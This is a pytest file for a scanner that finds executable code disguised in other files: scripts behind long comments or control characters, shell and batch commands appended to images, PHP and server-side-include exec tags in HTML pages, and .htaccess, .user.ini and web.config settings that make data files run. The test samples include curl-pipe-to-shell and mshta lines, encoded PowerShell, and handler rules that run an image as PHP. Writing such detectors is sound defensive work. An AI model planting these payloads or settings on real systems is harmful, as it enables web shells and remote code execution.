"""Scripts that hide behind long comments, control characters, pictures, pages and settings of a web server.

Each hostile file has a harmless twin beside it that looks much like it.
"""

from __future__ import annotations

import time

import pytest

from gate.examine.executable.examiner import ExecutableExaminer
from gate.models import DisguiseFact, ExecutableFact
from tests.examine.executable.test_polyglots import gif, jpeg, png
from tests.examine.viewing import examined, view_of

CONTROL = bytes(range(1, 9)) * 600
PADDING = b"<!-- " + b"x" * 6000 + b" -->"


def named(data: bytes, name: bytes = b"item", mode: int | None = None) -> set[str]:
    facts = examined(ExecutableExaminer(), data, name, mode=mode)
    return {fact.format for fact in facts if isinstance(fact, ExecutableFact)}


# --- names of scripts over content that does not read as text -----------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data", "format_"),
    [
        (b"tool.pl", b"print 1;\n__END__\n" + CONTROL, "perl"),
        (b"tool.rb", b"puts 1\n__END__\n" + CONTROL, "ruby"),
        (b"tool.js", b"/*" + CONTROL + b"*/ run();\n", "javascript"),
        (b"tool.ps1", b"<#" + CONTROL + b"#>\nGet-Item .\n", "powershell"),
        (b"tool.py", b"#" + CONTROL + b"\nimport os\n", "python"),
        (b"tool.vbs", b"'" + CONTROL + b"\nMsgBox 1\n", "vbs"),
        (b"tool.lua", b"--[[" + CONTROL + b"]]os.remove('x')\n", "lua-source"),
    ],
)
def test_control_characters_hide_no_script(name: bytes, data: bytes, format_: str) -> None:
    assert named(data, name) == {format_}


@pytest.mark.parametrize(
    ("name", "data"),
    [
        (b"data.pl", b"\x01" + CONTROL),
        (b"picture.ps1", png()),
        (b"picture.py", jpeg()),
        (b"film.ts", (b"G\x40\x11\x10\0" + bytes(183)) * 30),
        (b"empty.js", b""),
        (b"zeros.py", bytes(100)),
        (b"table.r", b"\x1f\x8b\x08\0" + CONTROL),
    ],
)
def test_data_under_such_names_is_no_script(name: bytes, data: bytes) -> None:
    assert named(data, name) == set()


def test_a_control_character_before_code_hides_nothing() -> None:
    assert named(b"\x01\ncd /tmp\ncurl https://example.org/ | sh\n", b"run") == {"shell"}
    assert named(b"\x01\ncd is a command, and so is curl.\n", b"run") == set()


@pytest.mark.parametrize("opening", [b"#" * 6000 + b"\n", (b"# note\n" * 1000)])
def test_code_behind_long_comments(opening: bytes) -> None:
    assert named(opening + b"cd /tmp\ncurl https://example.org/ | sh\n", b"run") == {"shell"}
    assert named(opening + b"a heading and text\n", b"run") == set()


def test_strong_marks_behind_a_long_block_comment() -> None:
    code = b"(function() {\n  run();\n})();\n"
    assert named(b"/*" + b"x" * 6000 + b"*/\n" + code) == {"javascript"}
    assert named(b"/*" + b"x" * 6000 + code) == set()


# --- scriptlets ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("before", [b"", b"<!-- x -->", PADDING, b"<!DOCTYPE x>"])
@pytest.mark.parametrize(
    ("data", "format_"),
    [
        (b"<scriptlet><registration progid='x'/><script language='JScript'>r()</script></scriptlet>", "sct"),
        (b"<component id='x'>" + PADDING + b"<script language='JScript'>r()</script></component>", "sct"),
        (b"<package><job id='x'><script language='JScript'>r()</script></job></package>", "wsf"),
        (b"<job>" + PADDING + b"<script language='VBScript'>r</script></job>", "wsf"),
    ],
)
def test_scriptlets_behind_comments(before: bytes, data: bytes, format_: str) -> None:
    assert named(b"<?xml version='1.0'?>\n" + before + data, b"a.txt") == {format_}
    assert named(before + data) == {format_}


@pytest.mark.parametrize(
    "data",
    [
        b"<component type='desktop'><id>org.example</id><description>script</description></component>",
        b"<package format='2'><name>x</name><script>build</script></package>",
        b"<job><name>painter</name></job>",
        b"<list>" + b"<job><script language='x'/></job></list>",
    ],
)
@pytest.mark.parametrize("before", [b"", PADDING])
def test_other_xml_is_no_scriptlet(before: bytes, data: bytes) -> None:
    assert named(b"<?xml version='1.0'?>\n" + before + data) == set()


@pytest.mark.parametrize(
    ("opening", "body", "format_"),
    [
        (
            PADDING,
            b"<assembly xmlns='urn:schemas-microsoft-com:asm.v1'>" + PADDING + b"<entryPoint/></assembly>",
            "clickonce",
        ),
        (PADDING, b"<AppInstaller><MainPackage/></AppInstaller>", "appinstaller"),
        (b"; note\r\n" * 1000, b'[Version]\r\nSignature="$Windows NT$"\r\n', "inf"),
        (b"# note\n" * 1000, b"[Flatpak Ref]\nName=x\n", "flatpakref"),
    ],
)
def test_installers_behind_long_comments(opening: bytes, body: bytes, format_: str) -> None:
    assert named(opening + body) == {format_}
    assert named(opening + body[:1] + b"x" + body[1:]) == set()


# --- pictures that a command line reads ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "format_"),
    [
        (b"\r\n@echo off\r\nstart calc.exe\r\n", "batch"),
        (b"\n@cmd /c calc\n", "batch"),
        (b"\r\necho off & powershell -enc AAAA\r\n", "batch"),
        (b"\r\npowershell.exe -nop -c iex(1)\r\n", "batch"),
        (b"\r\nmshta https://example.org/x\r\n", "batch"),
        (b"\n#!/bin/sh\nrm -r x\n", "shell"),
        (b"\ncurl -s https://example.org/ | sh\n", "shell"),
    ],
)
def test_commands_in_pictures(text: bytes, format_: str) -> None:
    for data in (jpeg() + text, jpeg(text), gif() + text, png() + bytes(5000) + text):
        facts = examined(ExecutableExaminer(), data, b"photo.jpg")
        assert [fact.format for fact in facts if isinstance(fact, ExecutableFact)] == [format_]
        assert {fact.disguise for fact in facts if isinstance(fact, DisguiseFact)} == {"extension", "polyglot"}


@pytest.mark.parametrize(
    "text",
    [
        b"\r\necho of the mountains\r\n",
        b"\r\nPowerShell, the book\r\n",
        b"\nStart here\n",
        b"the first line is #!/bin/sh as ever",
        b"\ncurl up and sleep | she said\n",
        b"write @echo off and go on",
    ],
)
def test_words_in_pictures(text: bytes) -> None:
    for data in (jpeg() + text, jpeg(text), png(text)):
        assert named(data, b"photo.jpg") == set()


@pytest.mark.parametrize(
    "data",
    [
        b"/*%PDF-1.4\n" + bytes(10) + b"*/alert(1);\n",
        b"//%PDF-1.4\nalert(1);\n",
        b"var a = `%PDF-1.7 `; alert(1);\n",
        b"a='%PDF-1.4';alert(1)\n",
    ],
)
def test_a_document_in_a_script(data: bytes) -> None:
    facts = examined(ExecutableExaminer(), data, b"form.pdf")
    assert [fact.format for fact in facts if isinstance(fact, ExecutableFact)] == ["javascript"]
    assert {fact.disguise for fact in facts if isinstance(fact, DisguiseFact)} == {"extension", "polyglot"}


@pytest.mark.parametrize("data", [b"\n\r %PDF-1.4\n", b"X-Header: 1\r\n\r\n%PDF-1.4\n", b"a=1\n" * 300 + b"%PDF-1.4"])
def test_a_document_behind_something_else(data: bytes) -> None:
    assert named(data, b"form.pdf") == set()


# --- pages and settings of a web server ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name", [b"index.html", b"INDEX.HTM", b"a.xhtml", b"a.svg", b"a.tpl", b"a.phpt", b"a.php9", b"a.module"]
)
@pytest.mark.parametrize("padding", [b"", PADDING])
def test_php_in_pages(name: bytes, padding: bytes) -> None:
    page = b"<!DOCTYPE html><html><body>" + padding + b"%s</body></html>"
    assert named(page % b"<?php system($x); ?>", name) == {"php"}
    assert named(page % b"<code>&lt;?php system($x); ?></code>", name) == set()


@pytest.mark.parametrize("name", [b"guide.md", b"notes.txt", b"main.css", b"guide.rst"])
def test_php_that_is_quoted(name: bytes) -> None:
    assert named(b"Write:\n\n    <?php system($x); ?>\n", name) == set()


@pytest.mark.parametrize("name", [b"index.html", b"page.shtml", b"page.stm", b"item"])
def test_commands_in_pages_of_a_server(name: bytes) -> None:
    page = b"<!DOCTYPE html><html><body>" + PADDING + b"%s</body></html>"
    assert named(page % b'<!--#exec cmd="id" -->', name) == {"ssi"}
    assert named(page % b'<!--#EXEC  cgi="/x" -->', name) == {"ssi"}
    assert named(page % b'<!--#include virtual="/head.html" -->', name) == set()
    assert named(page % b"<p>&lt;!--#exec cmd=&quot;id&quot; --&gt;</p>", name) == set()


HANDLERS = [
    (b".htaccess", b"Options -Indexes\nAddType application/x-httpd-php .jpg\n"),
    (b".htaccess", b"addhandler cgi-script .txt\n"),
    (b".HTACCESS", b"<FilesMatch x>\n  SetHandler application/x-httpd-php\n</FilesMatch>\n"),
    (b".htaccess", b"Options +Indexes +ExecCGI\n"),
    (b".htaccess", b"php_value auto_\x70repend_file logo.png\n"),
    (b".htaccess", b"Options +Includes\nAddOutputFilter INCLUDES .html\n"),
    (b".htaccess", b"# " + b"x" * 6000 + b"\nAddHandler \\\n php-script .png\n"),
    (b".user.ini", b"; x\nauto_\x70repend_file = logo.png\n"),
    (b"php.ini", b"extension=./x.so\n"),
    (
        b"web.config",
        b"<configuration><handlers><add name='x' path='*' modules='CgiModule'/></handlers></configuration>",
    ),
    (b"web.config", b"<handlers><add name='x' path='*.txt' verb='*' scriptProcessor='c:\\x.exe'/></handlers>"),
    (b"Web.config", PADDING + b"<configuration><aspNetCore processPath='dotnet' arguments='x'/></configuration>"),
]
HARMLESS = [
    (b".htaccess", b"ErrorDocument 404 /404.html\nAddType application/wasm .wasm\nOptions -ExecCGI -Includes\n"),
    (b".htaccess", b"# AddHandler cgi-script .txt\nRewriteEngine On\nphp_flag display_errors off\n"),
    (b".htaccess", b"RemoveHandler .php\nSetHandler none\nSetHandler default-handler\n"),
    (b".user.ini", b"; auto_\x70repend_file = logo.png\nmemory_limit = 64M\n"),
    (b"web.config", b"<staticContent><mimeMap fileExtension='.wasm' mimeType='application/wasm'/></staticContent>"),
    (b"notes.txt", b"AddHandler cgi-script .txt\n"),
]


@pytest.mark.parametrize(("name", "data"), HANDLERS)
def test_settings_that_make_data_run(name: bytes, data: bytes) -> None:
    assert named(data, name) == {"web-handler"}


@pytest.mark.parametrize(("name", "data"), HARMLESS)
def test_settings_that_do_not(name: bytes, data: bytes) -> None:
    assert named(data, name) == set()


@pytest.mark.parametrize(
    ("name", "unit"),
    [
        (b"run", b"#"),
        (b"run", b"# \n"),
        (b"run", b"/*"),
        (b"run", b'"""'),
        (b"a.html", b"<?ph"),
        (b"a.html", b"<!--#exec "),
        (b"a.xml", b"<!--"),
        (b"a.txt", b"<job>"),
        (b".htaccess", b"Options +"),
        (b".htaccess", b"AddHandler \\\n"),
        (b".htaccess", b"RewriteRule ["),
        (b"web.config", b"<add "),
        (b"photo.jpg", b"\n@echo "),
        (b"photo.jpg", b"\ncurl |"),
        (b"form.pdf", b"/*%PDF-"),
    ],
)
def test_hostile_texts_end_soon(name: bytes, unit: bytes) -> None:
    start = jpeg() if name.endswith(b"jpg") else b"<job>" if name == b"a.txt" else b""
    started = time.process_time()
    named(start + unit * ((2 << 20) // len(unit)), name)
    assert time.process_time() - started < 20  # a hang, not a speed: a machine may be slow


# --- permission bits and names ------------------------------------------------------------------------------------


def test_a_text_that_may_be_run_is_handed_to_the_shell() -> None:
    assert named(b"id > /tmp/x\nwall hello\n", b"run", 0o755) == {"shell"}
    assert named(b"id > /tmp/x\nwall hello\n", b"run", 0o644) == set()
    assert named(b"Permission is granted to all.\n", b"LICENSE", 0o755) == set()
    assert named(b"a,b\n1,2\n", b"table.csv", 0o755) == set()


def test_an_archive_that_is_a_dos_program_as_well() -> None:
    archive = b"PK\3\4" + bytes([0xB4, 0x4C, 0xCD, 0x21]) + bytes(40)
    assert {fact.format for fact in _labelled(archive, b"TOOL.COM")} == {"dos-com"}
    assert _labelled(archive, b"tool.zip") == []


def _labelled(data: bytes, name: bytes) -> list[ExecutableFact]:
    examiner = ExecutableExaminer()
    with view_of(data, examiner, name=name, labels=("zip",)) as view:
        return [fact for fact in examiner.examine(view) if isinstance(fact, ExecutableFact)]
